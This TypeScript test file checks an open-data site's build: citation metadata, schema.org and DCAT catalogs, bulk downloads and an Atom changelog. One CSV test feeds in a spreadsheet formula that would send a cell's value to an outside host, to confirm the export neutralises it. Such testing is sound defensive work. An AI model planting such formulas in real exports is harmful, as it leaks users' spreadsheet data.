/**
 * Issue 17, citable and versioned: CITATION.cff (served and committed, the same bytes, valid CFF 1.2.0), and one
 * citation sentence wherever the data says how to cite it.
 */
import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { readdir, readFile } from "node:fs/promises";
import { promisify } from "node:util";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { validateCFF } from "cffjs";
import { parse } from "yaml";
import { buildShipped, readJson, ROOT, shippedContentDates } from "./support/build-helpers.ts";
import { PRODUCTION_ORIGIN, sharedBuild } from "./support/shared-build.ts";
import { startLocalServer } from "./support/local-server.ts";
import { parseCsv } from "./support/csv.ts";
import { escapeHtml } from "../build/engine/describe/docs-html.ts";
import { changelogEntries } from "../build/engine/describe/data-changelog.ts";
import { answerCsvRow, FORMULA_GUARD } from "../build/engine/compile/data-package.ts";
import type { AnswerResource } from "../build/contract/resources.ts";

const execFileAsync = promisify(execFile);
/** The origin of the shared production-like build: absolute URLs start with it. */
const BASE_URL = PRODUCTION_ORIGIN;

let dist: string;
beforeAll(async () => {
  ({ dist } = await sharedBuild());
});

const site = async () =>
  parse(await readFile(path.join(ROOT, "content", "site.yaml"), "utf8")) as {
    name: string;
    version: string;
    publisher: string;
    citation: string;
    licence: { id: string };
  };

/** The top-level keys of CFF 1.2.0 (its schema allows no others). */
const CFF_KEYS = new Set([
  "abstract",
  "authors",
  "cff-version",
  "commit",
  "contact",
  "date-released",
  "doi",
  "identifiers",
  "keywords",
  "license",
  "license-url",
  "message",
  "preferred-citation",
  "references",
  "repository",
  "repository-artifact",
  "repository-code",
  "title",
  "type",
  "url",
  "version",
]);

describe("CITATION.cff", () => {
  it("is served with the same bytes as the repository's root file", async () => {
    const served = await readFile(path.join(dist, "CITATION.cff"));
    const committed = await readFile(path.join(ROOT, "CITATION.cff"));
    expect(
      committed.equals(served),
      "CITATION.cff is stale: build, then copy dist/CITATION.cff to the repository's root",
    ).toBe(true);
  });

  it("validates against the Citation File Format's own 1.2.0 schema (as cffjs ships it), in strict Ajv", async () => {
    const cff = parse(await readFile(path.join(dist, "CITATION.cff"), "utf8")) as Record<string, unknown>;
    expect(() => validateCFF(structuredClone(cff))).not.toThrow();
    // The schema is really applied: a key it does not define fails.
    expect(() => validateCFF({ ...structuredClone(cff), "release-notes": "x" })).toThrow(
      /additionalProperties|must NOT have additional properties/,
    );
  });

  it("holds the required keys of CFF 1.2.0 with their types, and only keys the format defines", async () => {
    const cff = parse(await readFile(path.join(dist, "CITATION.cff"), "utf8")) as Record<string, unknown>;
    for (const key of Object.keys(cff)) expect(CFF_KEYS.has(key), `${key} is not a CFF 1.2.0 key`).toBe(true);
    expect(cff["cff-version"]).toBe("1.2.0");
    expect(typeof cff.message).toBe("string");
    expect(typeof cff.title).toBe("string");
    expect(cff.type).toBe("dataset");
    expect(Array.isArray(cff.authors) && cff.authors.length).toBeGreaterThan(0);
    for (const author of cff.authors as Array<Record<string, unknown>>) {
      // An entity has a name; a person has family or given names. Ours is the publisher, an entity.
      expect(
        typeof author.name === "string" ||
          typeof author["family-names"] === "string" ||
          typeof author["given-names"] === "string",
      ).toBe(true);
    }
    expect(cff.license).toMatch(/^[A-Za-z0-9.+-]+$/);
    expect(typeof cff.version).toBe("string");
    if ("date-released" in cff) expect(cff["date-released"]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
  });

  it("says what the content says: name, publisher, licence, version and the citation sentence, and no date or address it does not give", async () => {
    const settings = await site();
    const cff = parse(await readFile(path.join(dist, "CITATION.cff"), "utf8")) as Record<string, unknown>;
    expect(cff).toMatchObject({
      title: settings.name,
      version: settings.version,
      license: settings.licence.id,
      message: settings.citation,
      authors: [{ name: settings.publisher }],
    });
    for (const key of ["date-released", "repository-code", "url", "doi"]) expect(cff).not.toHaveProperty(key);
  });
});

describe("one citation", () => {
  it("is the same sentence in the root resource, the data package, the docs and the home page, each pointing at CITATION.cff", async () => {
    const { citation } = await site();
    const root = await readJson<{ citation: string; links: Record<string, string> }>(
      path.join(dist, "api/v1/index.json"),
    );
    expect(root.citation).toBe(citation);
    expect(root.links.citation).toBe("/CITATION.cff");
    expect((await readJson<{ citation: string }>(path.join(dist, "data/datapackage.json"))).citation).toBe(citation);
    const escaped = citation.replaceAll("&", "&amp;");
    for (const page of ["index.html", "docs/index.html"]) {
      const html = await readFile(path.join(dist, page), "utf8");
      expect(html).toContain(escaped);
      expect(html).toMatch(/href="[./]*CITATION\.cff"/);
    }
    for (const page of ["index.md", "docs/index.md"])
      expect(await readFile(path.join(dist, page), "utf8")).toContain(`${citation} `);
  });
});

describe("the home page's schema.org Dataset", () => {
  let dataset: Record<string, unknown>;
  let dataFiles: string[];
  beforeAll(async () => {
    const built = await sharedBuild("production");
    const html = await readFile(path.join(built.dist, "index.html"), "utf8");
    const blocks = [...html.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)];
    expect(blocks).toHaveLength(1);
    dataset = JSON.parse(blocks[0]![1]!) as Record<string, unknown>;
    dataFiles = built.site.paths.filter((file) => file.startsWith("/data/"));
  });

  it("is a Dataset with Google's required properties (name, description of 50 to 5,000 characters)", () => {
    expect(dataset["@context"]).toBe("https://schema.org");
    expect(dataset["@type"]).toBe("Dataset");
    expect(typeof dataset.name).toBe("string");
    expect((dataset.description as string).length).toBeGreaterThanOrEqual(50);
    expect((dataset.description as string).length).toBeLessThanOrEqual(5000);
  });

  it("has the recommended ones, from the content: licence, creator, version, url, citation, and the period of its dated facts", async () => {
    const settings = await site();
    expect(dataset).toMatchObject({
      license: "https://creativecommons.org/licenses/by/4.0/",
      version: settings.version,
      url: `${BASE_URL}/`,
      citation: settings.citation,
      isAccessibleForFree: true,
    });
    expect(dataset.creator).toMatchObject({ "@type": "Organization", name: settings.publisher });
    const [from, to] = (dataset.temporalCoverage as string).split("/");
    const evidence = await readFile(path.join(dist, "api/v1/evidence/index.json"), "utf8");
    expect(evidence).toContain(`"as_of": "${from}"`);
    expect(await readFile(path.join(ROOT, "content", "disclosure.yaml"), "utf8")).toContain(`methodology_date: ${to}`);
  });

  it("lists a DataDownload with an absolute contentUrl for the API's entry point and every file under /data/", () => {
    const downloads = dataset.distribution as Array<{ "@type": string; encodingFormat: string; contentUrl: string }>;
    for (const download of downloads) {
      expect(download["@type"]).toBe("DataDownload");
      expect(download.encodingFormat).toMatch(/^[a-z]+\/[a-z0-9.+-]+$/);
      expect(download.contentUrl.startsWith(`${BASE_URL}/`), download.contentUrl).toBe(true);
    }
    const urls = downloads.map((download) => download.contentUrl.slice(BASE_URL.length));
    expect(urls).toContain("/api/v1/index.json");
    expect([...urls].filter((url) => url.startsWith("/data/")).sort()).toEqual([...dataFiles].sort());
    expect(dataFiles.filter((file) => file.endsWith(".csv")).length).toBeGreaterThanOrEqual(4);
  });
});

describe("bulk downloads", () => {
  it("answers.ndjson holds every answer, as its own file's data holds it, one canonical line each, in collection order", async () => {
    const lines = (await readFile(path.join(dist, "data/answers.ndjson"), "utf8")).split("\n");
    expect(lines.pop()).toBe("");
    const collection = await readJson<{ data: Array<{ slug: string }> }>(path.join(dist, "api/v1/answers/index.json"));
    expect(lines.map((line) => (JSON.parse(line) as { slug: string }).slug)).toEqual(
      collection.data.map((answer) => answer.slug),
    );
    for (const line of lines) {
      const answer = JSON.parse(line) as { slug: string };
      const own = await readJson<{ data: unknown[] }>(path.join(dist, `api/v1/answers/${answer.slug}.json`));
      expect(answer).toEqual(own.data[0]);
      expect(line).toBe(JSON.stringify(own.data[0])); // the file's key order (sorted), on one line
    }
  });

  it("the ZIP holds the root resource, the suppliers and evidence collections, the answers once (as NDJSON, not their collection pages), the CSVs, the NDJSON, the schemas, CITATION.cff and a README, each entry the bytes of its file", async () => {
    const zip = path.join(dist, "data/av-buyer-data.zip");
    const names = (await execFileAsync("unzip", ["-Z1", zip])).stdout.trim().split("\n");
    const folder = "av-buyer-data-1.0.0/";
    for (const name of names) expect(name.startsWith(folder), name).toBe(true);
    const inside = names.map((name) => name.slice(folder.length));
    expect(inside).toEqual([...inside].sort());
    for (const expected of [
      "README.txt",
      "CITATION.cff",
      "api/v1/index.json",
      "api/v1/suppliers/index.json",
      "api/v1/evidence/index.json",
      "api/v1/schemas/answers.schema.json",
      "data/datapackage.json",
      "data/answers.csv",
      "data/suppliers.csv",
      "data/evidence.csv",
      "data/sources.csv",
      "data/answers.ndjson",
    ]) {
      expect(inside).toContain(expected);
    }
    expect(inside.filter((name) => name.startsWith("api/v1/schemas/")).length).toBe(
      (await readdir(path.join(dist, "api/v1/schemas"))).length,
    );
    expect(inside).not.toContain("data/av-buyer-data.zip");
    expect(inside.some((name) => name.startsWith("api/v1/answers/"))).toBe(false);
    await execFileAsync("unzip", ["-tq", zip]);
    for (const name of inside.filter((entry) => entry !== "README.txt")) {
      const { stdout } = await execFileAsync("unzip", ["-p", zip, folder + name], {
        encoding: "buffer",
        maxBuffer: 64 * 1024 * 1024,
      });
      expect(stdout.equals(await readFile(path.join(dist, name))), name).toBe(true);
    }
    const readme = (await execFileAsync("unzip", ["-p", zip, `${folder}README.txt`])).stdout;
    const settings = await site();
    expect(readme).toContain(settings.citation);
    expect(readme).toContain("https://creativecommons.org/licenses/by/4.0/");
    // A copy found alone says where it comes from and which content it holds, as health does.
    const health = JSON.parse(await readFile(path.join(dist, "api", "v1", "health", "index.json"), "utf8")) as {
      content_digest: string;
    };
    expect(readme).toContain(`Content digest: ${health.content_digest}\n`);
    const catalog = JSON.parse(await readFile(path.join(dist, ".well-known", "api-catalog"), "utf8")) as {
      linkset: Array<{ anchor: string }>;
    };
    expect(readme).toContain(` at ${new URL(catalog.linkset[0]!.anchor).origin}/. Generated `);
    // The README says the links name paths on the site, some of files it leaves out: every one is a file there.
    expect(readme).toContain("are read there, or in a full copy of the site");
    const linked = new Set<string>();
    const collect = (value: unknown): void => {
      if (typeof value === "string" && /^\/(?!\/)/.test(value)) linked.add(value.replace(/[?#].*$/, ""));
      else if (value && typeof value === "object") for (const item of Object.values(value)) collect(item);
    };
    for (const name of inside.filter((entry) => entry.endsWith(".json")))
      collect(JSON.parse(await readFile(path.join(dist, name), "utf8")));
    const outside = [...linked].filter((link) => !inside.includes(link.slice(1)));
    expect(outside.length).toBeGreaterThan(3);
    for (const link of outside) {
      const file = path.join(dist, link.endsWith("/") ? `${link}index.html` : link);
      expect((await readFile(file)).length, link).toBeGreaterThan(0);
    }
  });

  it("answers.csv names each answer's JSON file and Markdown twin and holds no body: the bodies are in the NDJSON", async () => {
    const [header, ...rows] = parseCsv(await readFile(path.join(dist, "data/answers.csv"), "utf8"));
    expect(header).not.toContain("body_markdown");
    expect(header).toContain("word_count");
    const collection = await readJson<{
      data: Array<{ slug: string; body: { markdown: string }; links: { self: string; markdown: string } }>;
    }>(path.join(dist, "api/v1/answers/index.json"));
    expect(rows.map((row) => row[header!.indexOf("slug")])).toEqual(collection.data.map((answer) => answer.slug));
    for (const [at, answer] of collection.data.entries()) {
      const row = rows[at]!;
      expect(row[header!.indexOf("url")], answer.slug).toBe(answer.links.self);
      expect(row[header!.indexOf("markdown_url")], answer.slug).toBe(answer.links.markdown);
      // The body's longest line in any form a file would hold it: as written, escaped in JSON, quoted in CSV.
      const line = answer.body.markdown.split("\n").reduce((a, b) => (b.length > a.length ? b : a));
      expect(line.length, answer.slug).toBeGreaterThan(100);
      expect(row.join("\n")).not.toContain(line);
    }
  });

  it("answers.csv has a column for every front-matter field an author writes (a new field must be given one here, or left out on purpose)", async () => {
    const [header] = parseCsv(await readFile(path.join(dist, "data/answers.csv"), "utf8"));
    const schema = await readJson<{ properties: Record<string, unknown> }>(
      path.join(ROOT, "schemas/content-answer.schema.json"),
    );
    // A field the tables leave out goes here, with why; none today.
    const leftOut: string[] = [];
    expect(
      Object.keys(schema.properties).filter((field) => !header!.includes(field) && !leftOut.includes(field)),
    ).toEqual([]);
  });

  it("answers.csv writes a text a spreadsheet would run as a formula with an apostrophe before it, and says so", async () => {
    const collection = await readJson<{ data: AnswerResource[] }>(path.join(dist, "api/v1/answers/index.json"));
    const answer = { ...collection.data[0]!, title: '=HYPERLINK("https://example.org/?x="&A1,"x")', question: "-2+3" };
    const [, row] = parseCsv(`${"x\r\n"}${answerCsvRow(answer)}`);
    expect(row).toContain(`'${answer.title}`);
    expect(row).toContain("'-2+3");
    // Each lead FORMULA_GUARD names; a text starting otherwise is written as it is.
    for (const lead of ["=", "+", "-", "@", "\t", "\r"]) {
      const [, guarded] = parseCsv(`x\r\n${answerCsvRow({ ...answer, title: `${lead}SUM(A1)` })}`);
      expect(guarded, JSON.stringify(lead)).toContain(`'${lead}SUM(A1)`);
    }
    const [, plain] = parseCsv(`x\r\n${answerCsvRow({ ...answer, title: "SUM(A1)" })}`);
    expect(plain).toContain("SUM(A1)");
    expect(plain).not.toContain("'SUM(A1)");
    const { resources } = await readJson<{ resources: Array<{ description: string }> }>(
      path.join(dist, "data/datapackage.json"),
    );
    for (const resource of resources) expect(resource.description).toContain(FORMULA_GUARD);
  });

  it("the ZIP holds each answer's body once, in answers.ndjson", async () => {
    const zip = path.join(dist, "data/av-buyer-data.zip");
    const folder = "av-buyer-data-1.0.0/";
    const names = (await execFileAsync("unzip", ["-Z1", zip])).stdout.trim().split("\n");
    const entries = new Map<string, string>();
    for (const name of names) {
      const { stdout } = await execFileAsync("unzip", ["-p", zip, name], { maxBuffer: 64 * 1024 * 1024 });
      entries.set(name.slice(folder.length), stdout);
    }
    const collection = await readJson<{ data: Array<{ slug: string; body: { markdown: string; html: string } }> }>(
      path.join(dist, "api/v1/answers/index.json"),
    );
    for (const answer of collection.data) {
      const line = answer.body.markdown.split("\n").reduce((a, b) => (b.length > a.length ? b : a));
      const forms = [line, JSON.stringify(line).slice(1, -1), line.replaceAll('"', '""')];
      const holding = [...entries].filter(([, text]) => forms.some((form) => text.includes(form)));
      expect(
        holding.map(([name]) => name),
        answer.slug,
      ).toEqual(["data/answers.ndjson"]);
    }
  });

  // That two builds of the same content give the same bytes, these files' included, is build-output.test.ts's.
  it("are listed in urls.txt and SHA256SUMS, the ZIP's entries dated by SOURCE_DATE_EPOCH", async () => {
    const urls = (await readFile(path.join(dist, "urls.txt"), "utf8")).split("\n");
    const sums = await readFile(path.join(dist, "SHA256SUMS"), "utf8");
    for (const file of ["/data/answers.ndjson", "/data/av-buyer-data.zip", "/CITATION.cff"]) {
      expect(urls).toContain(file);
      const digest = createHash("sha256")
        .update(await readFile(path.join(dist, file)))
        .digest("hex");
      expect(sums).toContain(`${digest}  ${file.slice(1)}\n`);
    }
    const listing = (await execFileAsync("unzip", ["-l", path.join(dist, "data/av-buyer-data.zip")])).stdout;
    expect(listing).toContain("2023-11-14 22:13");
  });
});

describe("the DCAT catalog", () => {
  it("is a dcat:Catalog with DCAT-AP 3's mandatory properties, one dataset with the home page's distributions, and the API as its data service", async () => {
    const built = await sharedBuild("production");
    const catalog = await readJson<Record<string, any>>(path.join(built.dist, "catalog.jsonld"));
    expect(catalog["@context"]).toMatchObject({ dcat: "http://www.w3.org/ns/dcat#", dct: "http://purl.org/dc/terms/" });
    expect(catalog).toMatchObject({ "@id": `${BASE_URL}/catalog.jsonld`, "@type": "dcat:Catalog" });
    for (const property of ["dct:title", "dct:description", "dct:publisher"])
      expect(catalog[property], property).toBeDefined();
    const [dataset] = catalog["dcat:dataset"] as Array<Record<string, any>>;
    expect(dataset!["@type"]).toBe("dcat:Dataset");
    for (const property of [
      "dct:title",
      "dct:description",
      "dct:license",
      "dcat:version",
      "dct:bibliographicCitation",
      "dct:temporal",
      "dcat:contactPoint",
    ])
      expect(dataset![property], property).toBeDefined();
    const settings = await site();
    expect(dataset!["dct:bibliographicCitation"]).toBe(settings.citation);
    const distributions = dataset!["dcat:distribution"] as Array<Record<string, any>>;
    for (const distribution of distributions) {
      expect(distribution["@type"]).toBe("dcat:Distribution");
      expect(distribution["dcat:accessURL"]["@id"].startsWith(`${BASE_URL}/`)).toBe(true);
    }
    const html = await readFile(path.join(built.dist, "index.html"), "utf8");
    const jsonLd = JSON.parse(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/.exec(html)![1]!) as {
      distribution: Array<{ contentUrl: string }>;
    };
    expect(distributions.map((distribution) => distribution["dcat:downloadURL"]["@id"])).toEqual(
      jsonLd.distribution.map((download) => download.contentUrl),
    );
    const [service] = catalog["dcat:service"] as Array<Record<string, any>>;
    expect(service).toMatchObject({
      "@type": "dcat:DataService",
      "dcat:endpointURL": { "@id": `${BASE_URL}/api/v1` },
      "dcat:servesDataset": { "@id": dataset!["@id"] },
    });
    // Every @id that names a file of this build names one it wrote.
    const ids = JSON.stringify(catalog)
      .match(new RegExp(`"${BASE_URL}(/[^"#]*)"`, "g"))!
      .map((id) => id.slice(BASE_URL.length + 1, -1));
    for (const id of ids) expect(built.site.paths.includes(id) || id === "/" || id === "/api/v1", id).toBe(true);
  });

  it("is linked from the API catalog (describedby, application/ld+json)", async () => {
    const linkset = await readJson<{ linkset: Array<Record<string, Array<{ href: string; type?: string }>>> }>(
      path.join(dist, ".well-known/api-catalog"),
    );
    const described = linkset.linkset[0]!.describedby!;
    expect(described.find((link) => link.href.endsWith("/catalog.jsonld"))).toMatchObject({
      type: "application/ld+json",
    });
  });
});

describe("the data changelog", () => {
  // Parsed as XML by Chromium, with RFC 4287's required elements: test/full/changelog-feed.test.ts.
  it("is an Atom feed whose dates are the content's and never the build's clock", async () => {
    const feed = await readFile(path.join(dist, "changelog.atom"), "utf8");
    const atEpoch = await buildShipped("changelog-epoch", { sourceDateEpoch: Date.UTC(2030, 0, 2, 3, 4, 5) / 1000 });
    expect(await readFile(path.join(atEpoch.dist, "changelog.atom"), "utf8")).toBe(feed);
    const json = await readJson<{ entries: Array<{ id: string; date: string }> }>(path.join(dist, "changelog.json"));
    const contentDates = await shippedContentDates();
    for (const entry of json.entries) expect(contentDates.has(entry.date), entry.date).toBe(true);
  });

  it("lists the data corrections as the disclosure does, newest first, those of one day too", async () => {
    const disclosure = parse(await readFile(path.join(ROOT, "content", "disclosure.yaml"), "utf8")) as {
      data_corrections: Array<{ date: string; summary: string }>;
    };
    const { entries } = await readJson<{ entries: Array<{ kind: string; change: string }> }>(
      path.join(dist, "changelog.json"),
    );
    const listed = disclosure.data_corrections.map(({ summary }) => summary.replace(/\s+/g, " ").trim());
    expect(entries.filter(({ kind }) => kind === "corrections").map(({ change }) => change)).toEqual(listed);
    // The shipped content has a day of two.
    expect(new Set(disclosure.data_corrections.map(({ date }) => date)).size).toBeLessThan(listed.length);
  });

  it("keeps each entry's id when a correction is added at the top of the list, of a new day or of one listed", async () => {
    const disclosure = parse(await readFile(path.join(ROOT, "content", "disclosure.yaml"), "utf8")) as Parameters<
      typeof changelogEntries
    >[0]["disclosure"];
    const site = parse(await readFile(path.join(ROOT, "content", "site.yaml"), "utf8"));
    const ids = (corrections: NonNullable<typeof disclosure.data_corrections>) =>
      changelogEntries({ site, disclosure: { ...disclosure, data_corrections: corrections }, answers: [] })
        .filter(({ kind }) => kind === "corrections")
        .map(({ id }) => id);
    const listed = disclosure.data_corrections!;
    const before = ids(listed);
    expect(new Set(before).size).toBe(before.length);
    for (const date of ["2099-01-01", listed[0]!.date]) {
      const after = ids([{ date, summary: "Added.", items: ["An item."] }, ...listed]);
      expect(after.slice(1)).toEqual(before);
      expect(before).not.toContain(after[0]);
    }
  });

  it("is announced by the home page's head and linked from the root resource; the page has a section for each entry", async () => {
    const html = await readFile(path.join(dist, "index.html"), "utf8");
    const head = html.slice(0, html.indexOf("</head>"));
    expect(head).toMatch(/<link rel="alternate" type="application\/atom\+xml" href="changelog\.atom"/);
    const root = await readJson<{ links: Record<string, string> }>(path.join(dist, "api/v1/index.json"));
    expect(root.links).toMatchObject({ changelog: "/changelog.json", changelog_feed: "/changelog.atom" });
    const json = await readJson<{ entries: Array<{ id: string }>; links: Record<string, string> }>(
      path.join(dist, "changelog.json"),
    );
    expect(json.entries.length).toBeGreaterThanOrEqual(4);
    const page = await readFile(path.join(dist, "changelog/index.html"), "utf8");
    for (const entry of json.entries) expect(page).toContain(`id="${entry.id}"`);
  });

  it("names each section of its page uniquely, so that no two landmarks share a name", async () => {
    const page = await readFile(path.join(dist, "changelog/index.html"), "utf8");
    const named = new Map(
      [...page.matchAll(/<section aria-labelledby="([^"]+)">\n<h2 id="\1">([^<]*)<\/h2>/g)].map(([, id, name]) => [
        id!,
        name!,
      ]),
    );
    expect(named.size).toBe(page.split("<section").length - 1);
    const names = [...named.values()];
    expect(names.filter((name, at) => names.indexOf(name) !== at)).toEqual([]);
    // Entries of one date and title (the shipped content has days with several changes to the files' form) are told
    // apart by their number in the day, earliest first: the page lists the latest first.
    const { entries } = await readJson<{ entries: Array<{ id: string; date: string; title: string }> }>(
      path.join(dist, "changelog.json"),
    );
    const byHeading = new Map<string, typeof entries>();
    for (const entry of entries) {
      const heading = escapeHtml(`${entry.date}: ${entry.title}`);
      byHeading.set(heading, [...(byHeading.get(heading) ?? []), entry]);
    }
    const shared = [...byHeading].filter(([, same]) => same.length > 1);
    expect(shared.length).toBeGreaterThan(0);
    for (const [heading, same] of shared)
      for (const [at, entry] of same.entries())
        expect(named.get(entry.id)).toBe(`${heading}, ${same.length - at} of ${same.length}`);
  });

  it("is linked with rel=alternate in the Link header of / and of the API root, as served", async () => {
    const running = await startLocalServer(dist);
    for (const url of ["/", "/index.html", "/api/v1", "/api/v1/index.json"]) {
      const response = await fetch(`${running.origin}${url}`);
      await response.arrayBuffer();
      expect(response.headers.get("link"), url).toContain(
        '</changelog.atom>; rel="alternate"; type="application/atom+xml"',
      );
    }
  });
});
